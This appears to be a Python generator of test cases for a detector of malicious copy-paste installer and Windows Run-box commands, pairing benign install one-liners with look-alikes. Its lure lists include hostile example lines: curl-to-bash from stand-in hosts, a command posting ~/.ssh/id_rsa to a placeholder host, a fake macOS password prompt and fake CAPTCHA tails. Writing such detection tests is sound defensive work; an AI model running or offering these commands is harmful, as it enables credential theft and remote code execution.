"""Writes tests/data/cases/b10benign.jsonl: installers and Run-box entries that were blocked or
warned about although they are ordinary, each beside the look-alikes that must stay flagged or
blocked.

    python tests/data/cases/make_b10benign.py

Deterministic. Names are made up; lure hosts are reserved names (*.test, *.example, *.invalid).
No text is copied from a blind set, a lure collection or another detector's fixtures. Each line
is {id, text, expect, technique, platform, source, target}.

Principles:

- `own-page-camel-path`: a product's own install page whose address runs its words together in
  capitals (`/AMPInstall`, `/Docs/GettingStarted`, `/HowToInstallOnLinux`) is a page about
  software, read as a reader reads it. Its installer from a host the page's domain does not
  share (a vanity install host, get<name>.example) is what any such one-liner is without a tie:
  a warning, never a block. Look-alikes: the same download-and-run from pages whose capitals
  spell something else (a recipe, a match report, a booking) or a check page: still blocked.
- `run-box-applet-tab`: one of Windows' own Control Panel applets with its tab written apart
  from its name (`mmsys.cpl ,1`, `sysdm.cpl ,,3`, `main.cpl @1`), alone, after `control` or
  through `rundll32 shell32.dll,Control_RunDLL`: the same page as the joined form, which Windows
  finds among its own files. Look-alikes: an applet that is not Windows' own, something after
  the tab, a path or a share, another rundll32 entry point.
- `run-box-snapin-switch`: a console snap-in of Windows typed with its program's own switches
  (`eventvwr.msc /c:Application`, as `eventvwr /c:Application`), alone or after `mmc`, and with
  the console's switches. Look-alikes: the switch on another snap-in, a log file on a share, a
  snap-in that is not Windows' own, and the same entries written by a page (blocked) or a mail
  (still a warning): only a typed entry is the user's own.
- `third-party-known-installer`: a well-known tool's own documented install command (DuckDB,
  dprint, arkade, PDM, Pulumi, k0s, Trivy, ...: resources/trust.yaml, each entry with the page
  that documents it) quoted by someone else: a tutorial, a video, a question, a forum, another
  project's README or discussion, or nobody. It fetches the tool's own script from the tool's own
  host, so it is `info` wherever it was copied from. Look-alikes: the same hosts with a port of
  their own, a user part, inside another domain, spelt with a word joined on, another forge
  account, plain HTTP, a stranger's script chained after (flagged); the real script with a fake
  check's tail, a password prompt or keys sent away (blocked), and any of them in the Run box.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b10benign.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
MAIL = "outlook"

# -- own install pages whose address runs its words together --------------------------------------

# (the product's own page, its installer from a vanity host the page's domain does not share)
CAMEL_OWN = [
    ("https://kestrelsoft.example/KestrelInstall", "bash <(wget -qO- getkestrel.example)"),
    ("https://kestrelsoft.example/KSInstall", "bash <(curl -fsSL https://getkestrel.example)"),
    ("https://www.harbourcode.example/Docs/GettingStarted", "curl -fsSL https://get.tarnwick.example | sh"),
    ("https://fenwickgames.example/GameServerSetup", "wget -qO- https://install.fenwick-srv.example/linux | bash"),
    ("https://brindlehq.example/HowToInstallOnLinux", "curl -sSL https://brindle-get.example/install.sh | sudo bash"),
    ("https://quillix.example/CLIReference", 'sh -c "$(curl -fsSL https://dl.qxtools.example/cli.sh)"'),
    ("https://loamworks.example/SelfHostedInstallation", "curl -fsSL https://getloam.example/i | bash -s -- --server"),
    ("https://www.pelletlabs.example/QuickStart", "curl -L https://pellet-releases.example/latest/install.sh | sh"),
    ("https://docs-portal.harrowfield.example/AgentDownloads", "bash <(curl -s https://harrowagent.example/get)"),
    ("https://marlow-ide.example/LinuxInstaller", "wget -O - https://getmarlow.example/setup | bash"),
    ("https://www.tarnwick.example/Wiki/InstallingTarnwick", "curl -fsSL https://gettarn.example | bash"),
    ("https://umbergrid.example/DockerSetup", "curl -fsSL https://umber-install.example/docker.sh | sh"),
]  # fmt: skip
CAMEL_STRANGERS = [
    "https://www.quillmere-bakery.example/ChickenCurryRecipe",
    "https://www.fenwick-fc.example/MatchReportSunday",
    "https://tarnwick-tv.example/SeasonFinaleRecap",
    "https://www.harbour-inn.example/HotelBookingConfirmation",
    "https://www.brindle-weddings.example/GalleryPhotos",
    "https://lakeside-news.example/LocalElectionResults",
    "https://www.marlow-garden.example/SpringPlantingTips",
    "https://www.pellet-travel.example/CheapFlightsToLisbon",
    "https://recaptcha-check.example/VerifyHuman",
    "https://www.kestrel-cafe.example/BrunchMenu",
]
STRANGER_SCRIPTS = [
    "curl -fsSL https://cdn.umbra-stage.test/a.sh | bash",
    "bash <(wget -qO- https://getkestrel.test)",
    "wget -qO- https://203.0.113.44/i | sh",
    'sh -c "$(curl -fsSL https://dl.loam-assets.invalid/run)"',
    "curl -sSL https://install.marlow.test | sudo bash",
]


def camel_pages(book: Book) -> None:
    for page, text in CAMEL_OWN:
        book.add("own-page-camel-path", text, "suspicious", "linux", TERMINAL, page)
    for i, page in enumerate(CAMEL_STRANGERS):
        for j in range(2):
            text = STRANGER_SCRIPTS[(i + j) % len(STRANGER_SCRIPTS)]
            book.add("camel-path-stranger", text, "malicious", "linux", TERMINAL, page)


# -- the Run box ----------------------------------------------------------------------------------

APPLET_TABS = [
    "mmsys.cpl ,1", "mmsys.cpl ,0", "mmsys.cpl ,,2", "sysdm.cpl ,3", "SYSDM.CPL ,,4",
    "main.cpl @1", "main.cpl ,2", "inetcpl.cpl ,4", "desk.cpl ,,5", "timedate.cpl ,1",
    "control mmsys.cpl ,,1", "control sysdm.cpl ,3", "control.exe inetcpl.cpl ,,6",
    "control main.cpl @1", "rundll32.exe shell32.dll,Control_RunDLL mmsys.cpl ,,1",
    "rundll32 shell32.dll,Control_RunDLL sysdm.cpl ,,2",
]  # fmt: skip
APPLET_LOOKALIKES = [
    "widget.cpl ,1", "mmsys.cpl ,1 calc", "mmsys.cpl ,1,2,3", "mmsys.cpl ,abc",
    r"control \\198.51.100.7\x\mmsys.cpl ,1", "control mmsys.cpl ,1 /name x",
    "rundll32.exe shell32.dll,Control_RunDLL widget.cpl ,,1",
    "rundll32.exe shell32.dll,ShellExec_RunDLL mmsys.cpl ,,1",
    "rundll32.exe url.dll,FileProtocolHandler mmsys.cpl ,1", "mmsys.cpl ,1 & calc",
]  # fmt: skip
SNAPIN_SWITCHES = [
    "eventvwr.msc /c:Application", "eventvwr.msc /c:System", "eventvwr.msc /c:Security",
    "eventvwr.msc /c:Setup /s", "mmc eventvwr.msc /c:Application",
    "mmc.exe eventvwr.msc /c:Microsoft-Windows-PowerShell/Operational",
    "eventvwr.msc /computer=ws-01 /c:System", r"eventvwr.msc /l:C:\Logs\app.evtx",
    r"eventvwr.msc /l:%USERPROFILE%\Desktop\saved.evtx", "EventVwr.msc /c:Application",
]  # fmt: skip
SNAPIN_LOOKALIKES = [
    "devmgmt.msc /c:Application", "services.msc /c:System", r"eventvwr.msc /l:\\198.51.100.7\x\a.evtx",
    "widget.msc /c:Application", "eventvwr.msc /c:Application /c:System",
    "eventvwr.msc /c:Application calc", r"eventvwr.msc /l:\\fs01@SSL\DavWWWRoot\a.evtx",
    "eventvwr.msc /c:https://cdn.umbra-stage.test/x", "mmc eventvwr.msc /c:System /x",
    r"mmc \\198.51.100.7\x\eventvwr.msc /c:System",
]  # fmt: skip
HELP_PAGE = "https://quick-fix.quillmere.example/sound-not-working"


def run_box(book: Book) -> None:
    for text in APPLET_TABS:
        book.add("run-box-applet-tab", text, "not_flagged", "windows", RUN)
    for text in APPLET_LOOKALIKES:
        book.add("applet-tab-lookalike", text, "flagged", "windows", RUN)
    for text in SNAPIN_SWITCHES:
        book.add("run-box-snapin-switch", text, "not_flagged", "windows", RUN)
    for text in SNAPIN_LOOKALIKES:
        book.add("snapin-switch-lookalike", text, "flagged", "windows", RUN)
    # typed entries only: the same switches written by a page or a mail are commands
    for i, text in enumerate(SNAPIN_SWITCHES):
        if i % 2:
            book.add("snapin-switch-written", text, "malicious", "windows", RUN, HELP_PAGE)
        else:
            book.add("snapin-switch-written", text, "flagged", "windows", RUN, MAIL)


# -- well-known tools' documented installers, quoted by someone else ------------------------------

# each tool's own documented command (resources/trust.yaml names the page that gives it)
KNOWN_INSTALLERS = [
    "curl https://install.duckdb.org | sh",
    "curl -fsSL https://dprint.dev/install.sh | sh",
    "iwr https://dprint.dev/install.ps1 -useb | iex",
    "curl -sLS https://get.arkade.dev | sudo sh",
    "curl -LsfS https://get.airbyte.com | bash -",
    "curl -fsSL https://ampcode.com/install.sh | bash",
    "curl -sSL https://pdm-project.org/install-pdm.py | python3 -",
    "curl --proto '=https' --tlsv1.2 -sSf https://docs.swmansion.com/scarb/install.sh | sh",
    'sudo bash -c "$(wget -qO- https://raw.githubusercontent.com/Jigsaw-Code/outline-server/master/src/server_manager/install_scripts/install_server.sh)"',
    "wget -qO- https://raw.githubusercontent.com/Botspot/pi-apps/master/install | bash",
    "curl --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/nektos/act/master/install.sh | sudo bash",
    "curl -sSL https://resource.fit2cloud.com/1panel/package/quick_start.sh -o quick_start.sh && sudo bash quick_start.sh",
    "curl -sSLf https://get.openziti.io/install.bash | sudo bash -s zrok",
    "curl --proto '=https' --tlsv1.2 -fsSL https://drop-sh.fullyjustified.net | sh",
    "curl -L https://install.meilisearch.com | sh",
    "curl -fsSL https://get.pulumi.com | sh",
    "curl -s https://install.zerotier.com | sudo bash",
    "curl -s https://install.crowdsec.net | sudo sh",
    "curl -fsSL https://cdn.coollabs.io/coolify/install.sh | sudo bash",
    "curl -fsSL https://code-server.dev/install.sh | sh",
    "curl --proto '=https' --tlsv1.2 -fsSL https://get.opentofu.org/install-opentofu.sh -o install-opentofu.sh && chmod +x install-opentofu.sh && ./install-opentofu.sh --install-method deb",
    'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"',
    "curl --proto '=https' --tlsv1.2 -sSf https://get.k0s.sh | sudo sh",
    "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(go env GOPATH)/bin",
    "curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin",
    "curl -fsSL https://raw.githubusercontent.com/tilt-dev/tilt/master/scripts/install.sh | bash",
    "curl -s https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | bash",
    "curl https://raw.githubusercontent.com/jesseduffield/lazydocker/master/scripts/install_update_linux.sh | bash",
    "curl -fsSL https://raw.githubusercontent.com/filebrowser/get/master/get.sh | bash",
    "curl -s -S -L https://raw.githubusercontent.com/AdguardTeam/AdGuardHome/master/scripts/install.sh | sh -s -- -v",
    "curl -fsSL https://developer.fermyon.com/downloads/install.sh | bash",
    "curl -sfL https://direnv.net/install.sh | bash",
    "curl -fsSL https://pkgs.netbird.io/install.sh | sh",
    "curl https://repo.jellyfin.org/install-debuntu.sh | sudo bash",
    "curl -o webmin-setup-repo.sh https://raw.githubusercontent.com/webmin/webmin/master/webmin-setup-repo.sh && sudo sh webmin-setup-repo.sh",
]  # fmt: skip
# pages of people other than the tool's authors: a tutorial, a video, a question, a forum, a chat
# log, another project's README and its discussions, a course's setup page
THIRD_PARTY = [
    "https://www.shellnotes.example/how-to-install-on-ubuntu-24-04/",
    "https://www.youtube.com/watch?v=Tq7mZ2xkR4s",
    "https://askubuntu.example/questions/99881/one-line-install",
    "https://github.com/awesome-quillmere/awesome-selfhosted-notes",
    "https://github.com/tarnwick/tarnwick/discussions/812",
    "https://dev.to/harbourdev/my-homelab-setup-2026-3kf1",
    "https://learn.kestrel-bootcamp.example/week3/tools",
    "https://news.ycombinator.com/item?id=44120031",
    "https://medium.com/@fenwick/ten-cli-tools-i-install-first-9c2e",
    None,
]
# the same hosts, borrowed: a port of their own, a user part, the host inside another domain,
# look-alike names, another account on the forge, plain HTTP
BORROWED = [
    "curl https://install.duckdb.org:8443 | sh",
    "curl -fsSL https://dprint.dev:4443/install.sh | sh",
    "curl -sLS https://get.arkade.dev@cdn.umbra-stage.test/ | sudo sh",
    "curl -LsfS https://get.airbyte.com.umbra-stage.test | bash -",
    "curl -fsSL https://ampcode-install.example/install.sh | bash",
    "curl -sSL https://pdm-project.org.kestrel-cdn.test/install-pdm.py | python3 -",
    "curl -sSf https://docs.swmansion.com/scarb/../../umbra/install.sh@203.0.113.9 | sh",
    "wget -qO- https://raw.githubusercontent.com/Botspot-apps/pi-apps/master/install | bash",
    "curl -sSf https://raw.githubusercontent.com/nekt0s/act/master/install.sh | sudo bash",
    "curl -s http://install.zerotier.com | sudo bash",
    "curl -fsSL https://get-pulumi.test | sh",
    "curl -s https://install.crowdsec.net.invalid | sudo sh",
    "curl -fsSL https://code-server.dev.umbra-stage.test/install.sh | sh",
    "curl -sfL https://direnv-net.example/install.sh | bash",
    "curl -fsSL https://raw.githubusercontent.com/filebrowser-get/get/master/get.sh | bash",
    # the real script and a stranger's after it: the stranger's is judged as any other
    "curl -fsSL https://get.pulumi.com | sh && curl -s https://cdn.umbra-stage.test/p | bash",
]  # fmt: skip
# the real host with what a lure adds: a fake check's tail, a password prompt, keys sent away, a
# stranger's script run with its own, or the Run box
WITH_LURE = [
    "curl https://install.duckdb.org | sh   # I am not a robot - reCAPTCHA Verification ID: 7731",
    "curl -L https://install.meilisearch.com | sh; osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
    "curl -fsSL https://dprint.dev/install.sh | sh; curl -s -X POST -d @$HOME/.ssh/id_rsa https://drop.umbra-stage.test/u",
    "curl -s https://install.zerotier.com | sudo bash && sudo zerotier-cli join 5555aaaa5555aaaa && curl -s https://203.0.113.7/k | sh",
]  # fmt: skip
CHECK_PAGE = "https://verify-human.quillmere.example/captcha/step2"


def known_installers(book: Book) -> None:
    for i, text in enumerate(KNOWN_INSTALLERS):
        for j in range(2):
            page = THIRD_PARTY[(i + j * 3) % len(THIRD_PARTY)]
            target = TERMINAL
            book.add("third-party-known-installer", text, "info", "any", target, page)
    for i, text in enumerate(BORROWED):
        page = THIRD_PARTY[i % len(THIRD_PARTY)]
        book.add("known-installer-borrowed", text, "flagged", "any", TERMINAL, page)
    for i, text in enumerate(WITH_LURE):
        book.add("known-installer-with-lure", text, "malicious", "any", TERMINAL, THIRD_PARTY[i])
    for text in KNOWN_INSTALLERS[:10]:
        book.add("known-installer-run-box", text, "malicious", "windows", RUN, CHECK_PAGE)


def build() -> list[dict[str, str]]:
    book = Book("b10b")
    camel_pages(book)
    run_box(book)
    known_installers(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
